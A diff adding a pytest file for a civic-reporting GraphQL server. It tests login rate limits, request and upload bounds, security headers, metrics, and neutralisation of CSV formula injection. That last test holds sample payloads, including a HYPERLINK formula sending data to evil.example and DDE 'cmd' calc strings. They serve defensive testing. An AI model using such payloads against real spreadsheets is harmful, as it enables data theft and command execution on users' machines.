@@ -1,0 +1,388 @@
+"""Issue 12, server side: rate limits (aliases, addresses, accounts, phone forms), request
+bounds, CSV cells, security headers and /metrics, as a client sees them."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import time
+from collections.abc import AsyncIterator, Callable
+from contextlib import asynccontextmanager
+from dataclasses import replace
+from typing import Any
+
+import httpx
+import pytest
+from PIL import Image
+
+from domain.ratelimit import Backoff, Rule
+from tests.helpers import LOGIN, MONAS, REGISTER, category_id, citizen, gql, ok, report, staff
+
+
+@asynccontextmanager
+async def client_at(app: Any, ip: str) -> AsyncIterator[httpx.AsyncClient]:
+    """A client whose connection comes from `ip` (what uvicorn puts in scope["client"])."""
+    transport = httpx.ASGITransport(app=app, client=(ip, 40000))
+    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
+        yield c
+
+
+@pytest.fixture
+def limits(app: Any) -> Any:
+    """Set some limits for one test; the suite's generous ones come back after it."""
+    limiter = app.state.limiter
+    original = limiter.limits
+
+    def set_limits(**changes: Any) -> None:
+        limiter.limits = original.with_(**changes)
+
+    yield set_limits
+    limiter.limits = original
+
+
+def codes(body: dict[str, Any]) -> list[str]:
+    return [e["extensions"]["code"] for e in body.get("errors") or []]
+
+
+async def login(c: httpx.AsyncClient, name: str, password: str) -> dict[str, Any]:
+    return await gql(c, LOGIN, {"input": {"login": name, "password": password}})
+
+
+# ---------------------------------------------------------------- passwords
+
+
+async def test_guesses_slow_down_per_address_and_never_lock_out_the_owner(app, client, limits):
+    limits(guesses_per_account_address=Backoff("guess/account+address", 3, 0.5, 60, 3600))
+    await citizen(client, "ani")
+    async with client_at(app, "10.1.0.66") as attacker, client_at(app, "10.1.0.7") as owner:
+        for _ in range(4):  # three free failures, and the fourth starts the backoff
+            assert codes(await login(attacker, "ani", "salah-salah")) == ["UNAUTHENTICATED"]
+        body = await login(attacker, "ani", "rahasia-123")  # even the right password: no oracle
+        assert codes(body) == ["RATE_LIMITED"]
+        assert body["errors"][0]["extensions"]["retryAfter"] >= 1
+        # The owner, elsewhere, is not slowed by the attacker's guesses.
+        assert not (await login(owner, "ani", "rahasia-123")).get("errors")
+        # The backoff is a delay, not a lockout: after it the right password works there too.
+        await asyncio.sleep(0.6)
+        assert not (await login(attacker, "ani", "rahasia-123")).get("errors")
+    async with client_at(app, "10.1.0.67") as attacker:
+        for _ in range(4):
+            assert codes(await login(attacker, "ani", "salah-salah")) == ["UNAUTHENTICATED"]
+        await asyncio.sleep(0.6)  # the first wait (0.5 s) is over ...
+        assert codes(await login(attacker, "ani", "salah-salah")) == ["UNAUTHENTICATED"]
+        await asyncio.sleep(0.6)  # ... the second is twice as long
+        assert codes(await login(attacker, "ani", "salah-salah")) == ["RATE_LIMITED"]
+
+
+async def test_distributed_guessing_is_slowed_per_account_but_not_from_the_owners_address(
+    app, client, limits
+):
+    limits(guesses_per_account=Backoff("guess/account", 4, 30, 60, 3600))
+    await citizen(client, "budi")
+    async with client_at(app, "10.2.0.1") as home:
+        assert not (await login(home, "budi", "rahasia-123")).get("errors")  # a known address
+    for i in range(5):  # five addresses, one guess each
+        async with client_at(app, f"10.3.0.{i}") as bot:
+            assert codes(await login(bot, "budi", "salah-salah")) == ["UNAUTHENTICATED"]
+    async with client_at(app, "10.3.0.99") as bot:
+        assert codes(await login(bot, "budi", "salah-salah")) == ["RATE_LIMITED"]
+    async with client_at(app, "10.2.0.1") as home:
+        assert not (await login(home, "budi", "rahasia-123")).get("errors")
+
+
+async def test_every_form_of_a_phone_number_is_one_account_for_login_and_limits(app, client, limits):
+    limits(guesses_per_account_address=Backoff("guess/account+address", 2, 60, 60, 3600))
+    reg = {"handle": "citra", "displayName": "Citra", "password": "rahasia-123", "phone": "0812-5550-1234"}
+    data = await ok(client, REGISTER, {"input": reg})
+    assert data["register"]["user"]["phone"] == "+6281255501234"
+    for form in ("+62 812 5550 1234", "62812-5550-1234", "(0812) 5550 1234", "0062 812 5550 1234"):
+        body = await gql(client, REGISTER, {"input": {**reg, "handle": "citra2", "phone": form}})
+        assert body["errors"][0]["extensions"] == {"code": "CONFLICT", "field": "phone"}, form
+    async with client_at(app, "10.4.0.1") as c:
+        assert not (await login(c, "0812 5550 1234", "rahasia-123")).get("errors")
+        assert not (await login(c, "+6281255501234", "rahasia-123")).get("errors")
+    async with client_at(app, "10.4.0.2") as c:
+        # Three spellings, one counter: the third guess is already past the two free ones.
+        assert codes(await login(c, "0812-5550-1234", "salah-salah")) == ["UNAUTHENTICATED"]
+        assert codes(await login(c, "+62 812 5550 1234", "salah-salah")) == ["UNAUTHENTICATED"]
+        assert codes(await login(c, "6281255501234", "salah-salah")) == ["UNAUTHENTICATED"]
+        assert codes(await login(c, "citra", "salah-salah")) == ["RATE_LIMITED"]
+
+
+async def test_login_with_a_long_email(client):
+    email = "siti.nurhaliza.rahmawati.putri@kelurahan-gambir.jakarta.go.id"
+    assert len(email) > 30
+    reg = {"handle": "siti", "displayName": "Siti", "password": "rahasia-123", "email": email}
+    await ok(client, REGISTER, {"input": reg})
+    data = await ok(client, LOGIN, {"input": {"login": email.upper(), "password": "rahasia-123"}})
+    assert data["login"]["token"]
+    for junk in ("x" * 31, "a@" + "b" * 300 + ".id", "@" * 40, "+62" + "9" * 40):
+        assert codes(await login(client, junk, "rahasia-123")) == ["UNAUTHENTICATED"], junk
+    # Longer than any address can be (RFC 5321): refused as input, naming the field.
+    assert codes(await login(client, "x" * 500, "rahasia-123")) == ["BAD_USER_INPUT"]
+
+
+# ---------------------------------------------------------------- aliased mutations
+
+
+def aliased(field: str, n: int, args: Callable[[int], str], selection: str) -> str:
+    return "mutation {" + " ".join(f"m{i}: {field}({args(i)}) {selection}" for i in range(n)) + "}"
+
+
+async def test_aliased_registrations_count_one_by_one_and_all_or_nothing(app, client, limits):
+    from models import User
+
+    limits(register_per_address=Rule("register/address", 5, 3600))
+
+    def args(i: int) -> str:
+        return f'input: {{handle: "alias{i}", displayName: "A", password: "rahasia-123"}}'
+
+    body = await gql(client, aliased("register", 6, args, "{ token }"))
+    assert body["data"] is None
+    assert codes(body) == ["RATE_LIMITED"] * 6
+    assert sorted(e["path"] for e in body["errors"]) == sorted([f"m{i}"] for i in range(6))
+    assert await User.filter(handle__startswith="alias").count() == 0  # nothing ran
+    data = await ok(client, aliased("register", 5, args, "{ token }"))
+    assert len(data) == 5 and await User.filter(handle__startswith="alias").count() == 5
+    body = await gql(client, REGISTER, {"input": {"handle": "alias9", "displayName": "A", "password": "rahasia-123"}})
+    assert codes(body) == ["RATE_LIMITED"]
+    # Fragments and inline fragments count too.
+    frag = """mutation { ...R ... on Mutation { b: register(input: {handle: "alias8", displayName: "A",
+      password: "rahasia-123"}) { token } } } fragment R on Mutation { a: register(input: {handle: "alias7",
+      displayName: "A", password: "rahasia-123"}) { token } }"""
+    async with client_at(app, "10.5.0.1") as elsewhere:
+        limits(register_per_address=Rule("register/address", 1, 3600))
+        assert codes(await gql(elsewhere, frag)) == ["RATE_LIMITED", "RATE_LIMITED"]
+
+
+async def test_aliased_reports_are_refused_whole_and_new_accounts_share_the_address_budget(
+    app, client, limits
+):
+    from models import Report
+
+    limits(
+        reports_per_user=Rule("createReport/user", 3, 60),
+        reports_per_address=Rule("createReport/address", 5, 60),
+    )
+    token, _ = await citizen(client)
+    cat = category_id("sampah")
+
+    def args(i: int) -> str:
+        return (
+            f'input: {{clientRequestId: "a-{i}", categoryId: "{cat}", description: "Sampah menumpuk nomor {i}",'
+            f" location: {{lat: {MONAS['lat']}, lng: {MONAS['lng']}}}}}"
+        )
+
+    body = await gql(client, aliased("createReport", 4, args, "{ id }"), token=token)
+    assert body["data"] is None and codes(body) == ["RATE_LIMITED"] * 4
+    assert await Report.all().count() == 0
+    data = await ok(client, aliased("createReport", 3, args, "{ id }"), token=token)
+    assert len({r["id"] for r in data.values()}) == 3
+    # A fresh account from the same address: its own user budget, but the address's is shared.
+    other, _ = await citizen(client)
+    data = await ok(client, aliased("createReport", 2, args, "{ id }"), token=other)
+    assert len(data) == 2
+    body = await gql(client, aliased("createReport", 1, args, "{ id }"), token=other)
+    assert codes(body) == ["RATE_LIMITED"]
+    assert await Report.all().count() == 5
+    async with client_at(app, "10.6.0.1") as elsewhere:
+        await report(elsewhere, other)
+
+
+def test_memory_store_stays_bounded_and_a_flood_of_junk_keeps_counters_under_attack():
+    from domain.ratelimit import MemoryStore
+
+    now = [1000.0]
+    store = MemoryStore(max_keys=1000, clock=lambda: now[0])
+    rule = (60 / 10, 60)  # 10 per minute
+
+    async def scenario() -> None:
+        assert await store.take([("victim", *rule, 10)]) == 0  # the victim's budget is spent
+        for i in range(20_000):
+            await store.take([(f"junk{i}", *rule, 1)])
+            now[0] += 0.0001  # 2 s in all: the victim's budget has not refilled
+        assert len(store) <= 1000 and store.evicted > 0
+        assert await store.take([("victim", *rule, 1)]) > 0  # still refused: not reset
+        now[0] += 60
+        assert await store.take([("victim", *rule, 1)]) == 0
+
+    asyncio.run(scenario())
+
+
+async def test_open311_posts_spend_the_same_report_budget(app, client, limits):
+    from domain import apikeys
+
+    limits(reports_per_user=Rule("createReport/user", 1, 60))
+    _, user_id = await citizen(client)
+    _, key = await apikeys.issue(None, "app", int(user_id))
+    form = {"api_key": key, "service_code": "sampah", "lat": "-6.1754", "long": "106.8272",
+            "description": "Sampah menumpuk di trotoar"}  # fmt: skip
+    assert (await client.post("/open311/v2/requests.json", data=form)).status_code == 200
+    resp = await client.post("/open311/v2/requests.json", data=form)
+    assert resp.status_code == 429
+
+
+# ---------------------------------------------------------------- request bounds
+
+
+async def test_bodies_over_the_limit_are_refused_with_413(app, client):
+    limit = app.state.settings.max_body_bytes
+    big = {"query": "{ __typename }", "variables": {"x": "a" * (limit + 10)}}
+    resp = await client.post("/graphql", json=big)
+    assert resp.status_code == 413
+    assert resp.json()["errors"][0]["extensions"]["code"] == "PAYLOAD_TOO_LARGE"
+    assert str(limit) in resp.json()["errors"][0]["message"]
+
+    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it arrives
+        yield b'{"query": "{ __typename }", "variables": {"x": "'
+        for _ in range(limit // 65536 + 2):
+            yield b"a" * 65536
+        yield b'"}}'
+
+    resp = await client.post("/graphql", content=chunks(), headers={"content-type": "application/json"})
+    assert resp.status_code == 413
+    assert (await client.post("/graphql", json={"query": "{ __typename }"})).status_code == 200
+
+
+async def test_uploads_have_their_own_limit_and_pixels_are_bounded(app, client):
+    token, _ = await citizen(client)
+    upload = "mutation($file: Upload!) { uploadMedia(file: $file) { id width } }"
+    operations = json.dumps({"query": upload, "variables": {"file": None}})
+
+    def post(data: bytes) -> Any:
+        files = {"0": ("a.png", data, "image/png")}
+        form = {"operations": operations, "map": json.dumps({"0": ["variables.file"]})}
+        return client.post("/graphql", data=form, files=files, headers={"Authorization": f"Bearer {token}"})
+
+    resp = await post(b"\0" * (app.state.settings.max_upload_bytes + 1))
+    assert resp.status_code == 413 and "upload" in resp.json()["errors"][0]["message"]
+    buf = io.BytesIO()
+    Image.new("L", (6300, 6300)).save(buf, "PNG")  # ~40 MP in a small file
+    resp = await post(buf.getvalue())
+    err = resp.json()["errors"][0]
+    assert err["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"} and "pixels" in err["message"]
+
+
+async def test_uploads_in_flight_are_bounded_per_user(app, tmp_path):
+    from domain.errors import RateLimited
+    from domain.media import Decoder
+
+    buf = io.BytesIO()
+    Image.new("RGB", (2000, 2000), (10, 20, 30)).save(buf, "PNG")
+    decoder = Decoder(per_process=1, per_user=2)
+    try:
+        results = await asyncio.gather(
+            *(decoder.store(7, buf.getvalue(), tmp_path) for _ in range(3)),
+            decoder.store(8, buf.getvalue(), tmp_path),
+            return_exceptions=True,
+        )
+    finally:
+        decoder.close()
+    refused = [r for r in results if isinstance(r, RateLimited)]
+    assert len(refused) == 1 and "uploads" in refused[0].message
+    assert sum(1 for r in results if not isinstance(r, BaseException)) == 3
+    assert decoder.in_flight == 0 and not decoder._users
+
+
+# ---------------------------------------------------------------- CSV, headers
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client):
+    reporter, _ = await citizen(client)
+    partner, _ = await staff(client, "AGENCY_PARTNER", agency_code="DLH")
+    evil = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+        "+cmd|' /C calc'!A0 sampah di sini",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0 sampah",
+        "\t=1+1 sampah menumpuk",  # stored without the tab: still neutralised
+    ]
+    for text in evil:
+        await report(client, reporter, description=text, address=text)
+    resp = await client.get("/exports/reports.csv", headers={"Authorization": f"Bearer {partner}"})
+    rows = list(csv.DictReader(io.StringIO(resp.text)))
+    assert sorted(r["description"] for r in rows) == sorted("'" + t.strip() for t in evil)
+    assert all(r["address"] == r["description"] for r in rows)
+    assert all(float(r["lat"]) < 0 and not r["lat"].startswith("'") for r in rows)  # numbers stay numbers
+    from rest.exports import cell
+
+    assert [cell(v) for v in ("\tx", "\r=1", "-6.175400", -3, "-", "a=b")] == [
+        "'\tx", "'\r=1", "-6.175400", -3, "'-", "a=b"]  # fmt: skip
+
+
+async def test_security_headers_on_pages_media_and_api(client, tmp_path):
+    for path in ("/dashboard/", "/media/nothing.jpg", "/healthz"):
+        resp = await client.get(path)
+        assert resp.headers["x-content-type-options"] == "nosniff", path
+        assert resp.headers["x-frame-options"] == "DENY", path
+        assert resp.headers["referrer-policy"] == "no-referrer", path
+        assert "frame-ancestors 'none'" in resp.headers["content-security-policy"], path
+        assert resp.headers["x-request-id"], path
+    dashboard = (await client.get("/dashboard/")).headers["content-security-policy"]
+    assert "script-src 'self'" in dashboard and "unsafe-eval" not in dashboard
+    assert "sandbox" in (await client.get("/media/nothing.jpg")).headers["content-security-policy"]
+    ide = await client.get("/graphql", headers={"accept": "text/html"})
+    assert ide.status_code == 200 and "text/html" in ide.headers["content-type"]
+    assert "script-src" in ide.headers["content-security-policy"]
+    resp = await client.get("/healthz", headers={"x-request-id": "proxy-abc.123"})
+    assert resp.headers["x-request-id"] == "proxy-abc.123"
+    resp = await client.get("/healthz", headers={"x-request-id": "bad id\twith junk"})
+    assert resp.headers["x-request-id"] != "bad id\twith junk"
+
+
+# ---------------------------------------------------------------- metrics
+
+
+async def test_metrics_need_the_token_and_count_requests_refusals_and_limits(app, client, limits):
+    from telemetry import metrics
+
+    assert (await client.get("/metrics")).status_code == 404  # no METRICS_TOKEN: no route
+    settings = app.state.settings
+    app.state.settings = replace(settings, metrics_token="s3cret-metrics")
+    try:
+        assert (await client.get("/metrics", headers={"Authorization": "Bearer wrong"})).status_code == 404
+        await ok(client, "{ categories { id } }")
+        await gql(client, "mutation { login(input: {login: \"nobody\", password: \"x\"}) { token } }")
+        limits(register_per_address=Rule("register/address", 0, 3600))
+        await gql(client, REGISTER, {"input": {"handle": "m1", "displayName": "M", "password": "rahasia-123"}})
+        metrics.refused_document("QUERY_TOO_COMPLEX")
+        start = time.monotonic()
+        resp = await client.get("/metrics", headers={"Authorization": "Bearer s3cret-metrics"})
+        assert time.monotonic() - start < 2
+        text = resp.text
+    finally:
+        app.state.settings = settings
+    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/plain")
+    assert 'warga_graphql_requests_total{kind="query",outcome="ok"}' in text
+    assert 'warga_graphql_requests_total{kind="mutation",outcome="UNAUTHENTICATED"}' in text
+    assert 'warga_graphql_requests_total{kind="mutation",outcome="RATE_LIMITED"}' in text
+    assert 'warga_rate_limited_total{rule="register/address"}' in text
+    assert 'warga_refused_documents_total{reason="QUERY_TOO_COMPLEX"}' in text
+    assert 'warga_http_refused_total' in text and "warga_graphql_latency_seconds_bucket" in text
+    for name in ("warga_live_subscribers", "warga_read_cache_total", "warga_event_lag_seconds"):
+        assert name in text
+
+
+async def test_phone_migration_rewrites_old_rows_to_e164(app, client):
+    """Rows from before normalisation (62..., separators) become +62...; a number held twice
+    stays with the older account."""
+    import importlib
+
+    from tortoise import connections
+
+    from models import User
+
+    migration = importlib.import_module("models.migrations.0006_phone")
+    written = ["62812555000111", "0812-5550-00111", "+62 812 5550 0222", "+6281255500333", "junk"]
+    for i, phone in enumerate(written):
+        await User.create(handle=f"old{i}", display_name="x", password_hash="x", phone=phone)
+
+    class Editor:
+        client = connections.get("default")
+
+    await migration.normalise(None, Editor())
+    phones = {u.handle: u.phone for u in await User.filter(handle__startswith="old")}
+    assert phones == {"old0": "+62812555000111", "old1": None, "old2": "+6281255500222",
+                      "old3": "+6281255500333", "old4": None}  # fmt: skip
